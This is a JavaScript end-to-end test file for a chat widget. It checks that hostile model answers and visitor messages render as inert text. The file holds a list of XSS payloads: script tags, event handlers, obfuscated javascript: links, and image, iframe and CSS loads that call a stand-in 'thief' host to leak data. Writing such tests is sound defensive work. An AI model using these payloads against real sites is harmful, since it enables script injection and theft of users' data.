// Answers that mean harm: a model can be made to say anything, so nothing it says may act.
import { readFileSync } from 'node:fs';
import { expect, origins, test } from './lib/test.js';
import { page as html, tag } from './lib/site.js';

const attacks = (thief) => [
  '<script>window.harm = 1</script>',
  '<img src=x onerror="window.harm = 1">',
  `<img src="${thief}/html.png">`,
  `![picture](${thief}/markdown.png?secret=1)`,
  `![ref][r]\n\n[r]: ${thief}/reference.png`,
  '[click](javascript:window.harm=1)',
  '[click](JaVaScRiPt:window.harm=1)',
  '[click](java\tscript:window.harm=1)',
  '[click](&#106;avascript:window.harm=1)',
  '[click](data:text/html,<script>opener.harm=1</script>)',
  '[click](vbscript:harm)',
  '<javascript:window.harm=1>',
  '[a](https://example.com/"onmouseover="window.harm=1)',
  '<a href="javascript:window.harm=1" onclick="window.harm=1">link</a>',
  `<iframe src="${thief}/frame"></iframe>`,
  `<link rel="stylesheet" href="${thief}/style.css">`,
  `<style>@import "${thief}/import.css"; * { background: url(${thief}/background.png) }</style>`,
  `<svg onload="window.harm=1"><use href="${thief}/sprite.svg#x"/></svg>`,
  '<details open ontoggle="window.harm=1">',
  '`</code><script>window.harm=1</script>`',
  '```html\n</pre><script>window.harm=1</script>\n```',
  '| a |\n| --- |\n| <img src=x onerror="window.harm=1"> |',
  '\u202Egnp.exe \u0000 \uFFFE',
];

test('nothing in an answer runs, loads or leads to a script', async ({ natter, upstream, site, page, chat, seen, shot }) => {
  const { url } = await natter(upstream.env);
  const thief = await site({});
  // No policy of the page protects it here: the widget has to.
  const shop = await site({ '/': html(tag(url)) });
  await page.goto(shop.url);
  await chat.open();
  await chat.ask('Harm me');
  const call = await upstream.call();
  const text = attacks(thief.url).join('\n\n');
  // In small pieces, so that every half of every attack is drawn once.
  for (let at = 0; at < text.length; at += 7) call.send(text.slice(at, at + 7));
  call.send('\n\nThe end.');
  await expect(chat.answerText).toContainText('The end.');
  call.finish();
  await expect(chat.stopButton).toBeHidden();
  await shot('hostile-answer');

  for (const link of await chat.answer.getByRole('link').all()) {
    expect(await link.evaluate((a) => a.protocol)).toMatch(/^(https?|mailto|tel):$/);
  }
  const found = await chat.answer.evaluate((answer) => ({
    elements: [...answer.querySelectorAll('script, style, link, iframe, object, embed, form, base, meta, details, img, video, audio')].map((e) => e.outerHTML),
    handlers: [...answer.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => /^on|^style$/.test(n))),
  }));
  expect(found).toEqual({ elements: [], handlers: [] });
  await expect(chat.answerText).toContainText('<script>window.harm = 1</script>');
  for (const link of await chat.answer.getByRole('link').all()) await link.hover();
  expect(await page.evaluate(() => window.harm)).toBeUndefined();
  expect(thief.hits).toEqual([]);
  expect(origins(seen.requests)).not.toContain(thief.url);

  // The stored answer, drawn again from the server, is no more dangerous.
  await page.reload();
  await expect(chat.answerText).toContainText('The end.');
  expect(await page.evaluate(() => window.harm)).toBeUndefined();
  expect(thief.hits).toEqual([]);
});

test('a visitor’s own message is text, never markup', async ({ natter, upstream, site, page, chat }) => {
  const { url } = await natter(upstream.env);
  const shop = await site({ '/': html(tag(url)) });
  await page.goto(shop.url);
  await chat.open();
  const text = '<img src=x onerror="window.harm=1"> **bold** [x](javascript:1)';
  await chat.ask(text);
  expect(await chat.questions.last().locator('img, strong, a').count()).toBe(0);
  (await upstream.call()).finish();
  expect(await page.evaluate(() => window.harm)).toBeUndefined();
});

// Written by serde from the shared types (xtask/tests/stream_examples.rs): the widget reads
// events with the browser's own JSON, and must understand every one of them.
const examples = readFileSync(new URL('./fixtures/events.ndjson', import.meta.url), 'utf8').trimEnd().split('\n');

test('the widget reads every event that the server can write', async ({ natter, site, page, chat, seen }) => {
  const { url } = await natter();
  const shop = await site({ '/': html(tag(url)) });
  const turn = (last) => examples.filter((line) => !/"type":"(done|error)"/.test(line) || line.includes(`"type":"${last}"`)).join('\n') + '\n';
  let body = turn('done');
  await page.route('**/v1/chat/stream', (route) =>
    route.fulfill({
      status: 200,
      headers: { 'Content-Type': 'application/x-ndjson; charset=utf-8', 'Access-Control-Allow-Origin': '*' },
      body,
    }));
  await page.goto(shop.url);
  await chat.open();
  await chat.ask('First');
  await expect(chat.answerText).toHaveText('The whole “answer” – 💬');
  await expect(chat.answer.getByRole('link', { name: 'A source' })).toHaveAttribute('href', 'https://example.com/source');
  await expect(chat.answer).toContainText('A source without a page');
  body = turn('error');
  await chat.ask('Second');
  await expect(chat.retryButton).toBeVisible();
  expect(seen.exceptions).toEqual([]);
});
